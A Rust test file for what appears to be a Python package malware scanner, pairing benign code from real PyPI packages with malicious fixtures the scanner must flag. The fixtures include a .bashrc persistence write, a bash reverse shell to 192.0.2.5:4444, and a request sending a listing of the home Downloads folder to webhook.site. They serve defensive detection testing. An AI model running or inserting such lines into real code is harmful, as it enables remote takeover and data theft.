//! Shapes of real benign code that once raised findings in the top-200 PyPI corpus
//! (scripts/bench-corpus.sh): typer's and huggingface_hub's shell-completion installers, `ssh -i`
//! in help text, `webhook.site` in a docstring, a "Downloads" counter. Each is paired with the
//! malicious shape the same rule must still catch.

use pyward_analyze::{analyze_file, FileAnalysis, Options};
use std::collections::BTreeSet;

fn ids(src: &str, name: &str) -> BTreeSet<&'static str> {
    let fa: FileAnalysis = analyze_file(name, src.as_bytes(), &Options::default());
    fa.rules.iter().map(|r| r.id()).collect()
}

#[test]
fn completion_installer_in_a_function_is_not_persistence() {
    let benign = r#"
import os, subprocess
from pathlib import Path

def install_bash(prog_name, complete_var, shell):
    rc_path = Path.home() / ".bashrc"
    rc_content = rc_path.read_text() if rc_path.is_file() else ""
    rc_path.write_text(f"{rc_content}\nsource ~/.bash_completions/{prog_name}.sh\n")
    subprocess.run(["bash", "-c", "true"])
"#;
    assert!(!ids(benign, "_completion_shared.py").contains("persistence"));
    // The same write at import time is persistence.
    let malicious = r#"
import os
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('\n(python3 -c "import pkg" &)\n')
"#;
    assert!(ids(malicious, "m.py").contains("persistence"));
}

#[test]
fn ssh_dash_i_in_help_text_is_not_a_reverse_shell() {
    let benign = r#"
import subprocess, socket
HELP = "Path to the SSH identity file (forwarded to `ssh -i`)."
def connect(host):
    subprocess.run(["ssh", "-i", "key", host])
"#;
    assert!(!ids(benign, "cli.py").contains("reverse-shell"));
    let malicious = r#"
import subprocess, socket
subprocess.Popen("bash -i >& /dev/tcp/192.0.2.5/4444 0>&1", shell=True)
"#;
    assert!(ids(malicious, "m.py").contains("reverse-shell"));
}

#[test]
fn docstring_destinations_and_prose_folders_are_ignored() {
    let benign = r#"
import requests

def get_webhook(webhook_id):
    """Get a webhook by its id. Example target: https://webhook.site/0000 for tests."""
    return requests.get(f"https://example.org/api/webhooks/{webhook_id}")

def summary(s):
    for root, dirs, files in os.walk("."):
        pass
    return f"  Downloads: {s['downloads']}"
"#;
    let got = ids(benign, "api.py");
    assert!(!got.contains("shady-destination"), "{got:?}");
    assert!(!got.contains("dir-recon"), "{got:?}");
    let malicious = r#"
import requests, os
requests.post("https://webhook.site/abc", data=os.listdir(os.path.expanduser("~/Downloads")))
for root, dirs, files in os.walk(os.path.expanduser("~/Documents")):
    pass
"#;
    let got = ids(malicious, "m.py");
    assert!(got.contains("shady-destination"), "{got:?}");
    assert!(got.contains("dir-recon"), "{got:?}");
}
